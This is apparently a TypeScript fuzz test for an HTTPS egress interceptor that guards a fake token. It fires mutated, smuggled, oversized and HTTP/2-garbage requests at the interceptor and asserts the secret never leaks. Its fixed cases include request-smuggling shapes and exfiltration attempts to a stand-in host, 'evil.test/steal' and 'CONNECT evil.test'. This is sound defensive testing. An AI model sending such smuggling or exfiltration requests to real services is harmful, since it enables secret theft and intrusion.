// Fuzzing the egress interceptor's HTTP boundary: what a hostile guest can
// send after the TLS handshake. Malformed and mutated requests, huge headers,
// pipelining, chunked bodies (bad sizes, extensions, trailers, a placeholder
// split across chunks), request smuggling shapes, and garbage HTTP/2 frames,
// each over a real TLS connection to the interceptor in front of a real HTTPS
// server. The cases come from a seeded generator, so a failure replays.
// Whatever arrives: nothing crashes, every connection ends, the secret is in
// no answer, report or summary, and the server sees the secret only in the
// bound header and the placeholder nowhere.
import * as tls from 'node:tls';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type InterceptHarness, startInterceptHarness } from './intercept-harness';

const SECRET = 'ghp_FuzzTokenThatMustStayOnTheHost987654321';
const SEED = 0x5eed15;
const CASES = 240;
const PARALLEL = 12;
/** QUIET_MS ends a case once the interceptor has said nothing for this long. */
const QUIET_MS = 700;

let harness: InterceptHarness;

beforeAll(async () => {
  harness = await startInterceptHarness(SECRET);
});

afterAll(async () => {
  await harness?.close();
});

/** mulberry32 is a small seeded PRNG: the same seed gives the same cases. */
function mulberry32(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

interface Case {
  readonly name: string;
  readonly alpn: 'http/1.1' | 'h2';
  /** writes are sent one after another, each as its own write. */
  readonly writes: readonly Buffer[];
}

/** templates are well-formed requests a guest could send, the placeholder in good and bad places. */
function templates(placeholder: string): string[] {
  const auth = `Authorization: Bearer ${placeholder}\r\n`;
  const [, , token] = placeholder.split(':');
  return [
    `GET /user HTTP/1.1\r\nHost: api.test\r\n${auth}\r\n`,
    `POST /items HTTP/1.1\r\nHost: api.test\r\n${auth}Content-Length: 14\r\n\r\n{"name":"one"}`,
    `POST /items HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n`,
    `GET /search?q=${placeholder} HTTP/1.1\r\nHost: api.test\r\n\r\n`,
    `GET /user HTTP/1.1\r\nHost: api.test\r\nX-Leak: ${placeholder}\r\n\r\n`,
    `POST /paste HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n10\r\ntoken=xray:github\r\n${(1 + (token?.length ?? 0)).toString(16)}\r\n:${token}\r\n0\r\n\r\n`,
    `POST /paste HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\nX-Trailer: ${placeholder}\r\n\r\n`,
  ];
}

/** mutate damages a request the ways parsers stumble on: flipped, cut, repeated and inserted bytes. */
function mutate(random: () => number, text: string): Buffer {
  const bytes = [...Buffer.from(text)];
  const steps = 1 + Math.floor(random() * 4);
  const pick = (): number => Math.floor(random() * Math.max(1, bytes.length));
  const inserts = ['\r\n', '\n', '\r', '\0', ':', ' ', '\t', '%', '../', 'Content-Length: 99999999999\r\n', 'Transfer-Encoding: chunked\r\n', '\r\n\r\n', 'ÿ'];
  for (let i = 0; i < steps; i++) {
    const at = pick();
    switch (Math.floor(random() * 4)) {
      case 0:
        bytes[at] = Math.floor(random() * 256);
        break;
      case 1:
        bytes.splice(at, 1 + Math.floor(random() * 8));
        break;
      case 2:
        bytes.splice(at, 0, ...bytes.slice(at, at + 1 + Math.floor(random() * 16)));
        break;
      default:
        bytes.splice(at, 0, ...Buffer.from(inserts[Math.floor(random() * inserts.length)] as string, 'latin1'));
    }
  }
  return Buffer.from(bytes);
}

/** split cuts bytes into 1 to 4 writes at random places, so every parser state meets a boundary. */
function split(random: () => number, bytes: Buffer): Buffer[] {
  const cuts = [...new Set(Array.from({ length: Math.floor(random() * 4) }, () => Math.floor(random() * bytes.length)))].sort((a, b) => a - b);
  const parts: Buffer[] = [];
  let from = 0;
  for (const cut of [...cuts, bytes.length]) {
    if (cut > from) parts.push(bytes.subarray(from, cut));
    from = cut;
  }
  return parts;
}

/** fixedCases are the shapes a generator would rarely hit: sizes, pipelining, smuggling and HTTP/2. */
function fixedCases(placeholder: string): Case[] {
  const h1 = (name: string, ...writes: string[]): Case => ({ name, alpn: 'http/1.1', writes: writes.map((w) => Buffer.from(w, 'latin1')) });
  const get = (path: string, extra = ''): string => `GET ${path} HTTP/1.1\r\nHost: api.test\r\n${extra}\r\n`;
  const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
  return [
    h1('a 100 KiB header', get('/big', `X-Big: ${'a'.repeat(100 * 1024)}\r\n`)),
    h1('a 2 MiB header', get('/huge', `X-Huge: ${'b'.repeat(2 * 1024 * 1024)}\r\n`)),
    h1('10,000 headers', get('/many', Array.from({ length: 10_000 }, (_, i) => `X-H${i}: ${i}\r\n`).join(''))),
    h1('the placeholder in a 100 KiB header', get('/big', `X-Big: ${'c'.repeat(50 * 1024)}${placeholder}${'c'.repeat(50 * 1024)}\r\n`)),
    h1('three pipelined requests, the last leaking in its URL', get('/one', `Authorization: Bearer ${placeholder}\r\n`) + get('/two') + get(`/three?t=${placeholder}`)),
    h1('fifty pipelined requests in one write', Array.from({ length: 50 }, (_, i) => get(`/p${i}`, `Authorization: Bearer ${placeholder}\r\n`)).join('')),
    h1('Content-Length and Transfer-Encoding together', `POST /smuggle HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${get(`/hidden?t=${placeholder}`)}`),
    h1('two different Content-Lengths', `POST /cl HTTP/1.1\r\nHost: api.test\r\nContent-Length: 3\r\nContent-Length: 40\r\n\r\nabc`),
    h1('a folded header carrying the placeholder', `GET /fold HTTP/1.1\r\nHost: api.test\r\nX-Fold: start\r\n ${placeholder}\r\n\r\n`),
    h1('a chunk size larger than any body', `POST /chunks HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFF\r\nabc`),
    h1('a chunk size that is not hex', `POST /chunks HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nabc\r\n0\r\n\r\n`),
    h1('chunk extensions', `POST /chunks HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n3;name=${placeholder}\r\nabc\r\n0\r\n\r\n`),
    h1('the placeholder one byte per chunk', `POST /drip HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n${[...placeholder].map((c) => `1\r\n${c}\r\n`).join('')}0\r\n\r\n`),
    h1('a second Host header naming another server', get('/user', 'Host: evil.test\r\n')),
    h1('an absolute-form target to another host', `GET https://evil.test/steal?t=${placeholder} HTTP/1.1\r\nHost: api.test\r\n\r\n`),
    h1('CONNECT through the interceptor', `CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n`),
    h1('an Upgrade to WebSocket', get('/ws', 'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n')),
    h1('HTTP/1.0 without a Host', `GET /old HTTP/1.0\r\nAuthorization: Bearer ${placeholder}\r\n\r\n`),
    h1('HTTP/0.9', 'GET /\r\n'),
    h1('a NUL in the request line', `GET /nul\0${placeholder} HTTP/1.1\r\nHost: api.test\r\n\r\n`),
    h1('bare LF line ends', `GET /lf HTTP/1.1\nHost: api.test\nAuthorization: Bearer ${placeholder}\n\n`),
    h1('a request line of 1 MiB', `GET /${'d'.repeat(1024 * 1024)} HTTP/1.1\r\nHost: api.test\r\n\r\n`),
    h1('random bytes', Buffer.from(Array.from({ length: 4096 }, (_, i) => (i * 7919) % 256)).toString('latin1')),
    { name: 'the HTTP/2 preface then garbage frames', alpn: 'h2', writes: [preface, Buffer.from(Array.from({ length: 2048 }, (_, i) => (i * 31) % 256))] },
    { name: 'an HTTP/2 SETTINGS frame claiming 16 MiB of payload', alpn: 'h2', writes: [preface, Buffer.from([0xff, 0xff, 0xff, 0x04, 0x00, 0x00, 0x00, 0x00, 0x00, 1, 2, 3])] },
    { name: 'HTTP/1.1 text on an HTTP/2 connection', alpn: 'h2', writes: [Buffer.from(get('/user', `Authorization: Bearer ${placeholder}\r\n`))] },
  ];
}

function generatedCases(placeholder: string): Case[] {
  const random = mulberry32(SEED);
  const sources = templates(placeholder);
  return Array.from({ length: CASES }, (_, i) => {
    const source = sources[i % sources.length] as string;
    const damaged = random() < 0.8 ? mutate(random, source) : Buffer.from(source + (random() < 0.5 ? source : ''));
    return { name: `generated #${i} (from template ${i % sources.length})`, alpn: 'http/1.1', writes: split(random, damaged) };
  });
}

/** run sends one case over its own TLS connection and returns what came back; it ends once the interceptor goes quiet or closes. */
function run(c: Case): Promise<{ answer: Buffer; closed: boolean }> {
  return new Promise((resolve) => {
    const socket = tls.connect({ host: '127.0.0.1', port: harness.proxyPort, servername: 'api.test', ca: harness.vmCa, ALPNProtocols: [c.alpn] });
    const parts: Buffer[] = [];
    let quiet: NodeJS.Timeout | undefined;
    let closed = false;
    const done = (): void => {
      clearTimeout(quiet);
      socket.destroy();
      resolve({ answer: Buffer.concat(parts), closed });
    };
    const wait = (): void => {
      clearTimeout(quiet);
      quiet = setTimeout(done, QUIET_MS);
    };
    socket.on('data', (chunk: Buffer) => {
      parts.push(chunk);
      wait();
    });
    socket.on('error', () => undefined);
    socket.once('close', () => {
      closed = true;
      done();
    });
    socket.once('secureConnect', () => {
      for (const write of c.writes) socket.write(write);
      wait();
    });
  });
}

async function runAll(cases: readonly Case[]): Promise<{ c: Case; answer: Buffer; closed: boolean }[]> {
  const results: { c: Case; answer: Buffer; closed: boolean }[] = [];
  let next = 0;
  const worker = async (): Promise<void> => {
    while (next < cases.length) {
      const c = cases[next++] as Case;
      results.push({ c, ...(await run(c)) });
    }
  };
  await Promise.all(Array.from({ length: PARALLEL }, worker));
  return results;
}

describe('the interceptor under hostile HTTP', () => {
  it('survives every case, ends every connection, and keeps the secret where it belongs', async () => {
    const placeholder = harness.binding.placeholder;
    const cases = [...fixedCases(placeholder), ...generatedCases(placeholder)];
    const results = await runAll(cases);
    expect(results).toHaveLength(cases.length);
    for (const { c, answer } of results) expect(answer.includes(SECRET), c.name).toBe(false);
    // Every connection the interceptor took reports how it ended.
    await expect.poll(() => harness.summaries.length, { timeout: 10_000 }).toBe(cases.length);
    expect(JSON.stringify({ reports: harness.reports, summaries: harness.summaries })).not.toContain(SECRET);
    const [, , token] = placeholder.split(':');
    for (const request of harness.seen) {
      const { authorization, ...others } = request.headers;
      const elsewhere = JSON.stringify([request.method, request.url, others, request.body.toString('latin1')]);
      expect(elsewhere.includes(SECRET) || elsewhere.includes(token as string), `${request.method} ${request.url}`).toBe(false);
      // In its header the placeholder was replaced, or the value sent was not the placeholder (a damaged one, say).
      const header = authorization ?? '';
      expect(header.includes(token as string), `${request.method} ${request.url}: ${header}`).toBe(false);
      if (header.includes(SECRET)) expect(header).toBe(`Bearer ${SECRET}`);
    }
    // The fuzzing reached the server and the refusals alike, so both sides of the boundary were exercised.
    expect(harness.seen.length).toBeGreaterThan(20);
    expect(harness.reports.filter((r) => r.kind === 'secret-refused').length).toBeGreaterThan(20);
    console.info(`intercept fuzz: ${cases.length} cases, ${harness.seen.length} requests reached the server, ${harness.reports.length} reports`);
  }, 180_000);
});
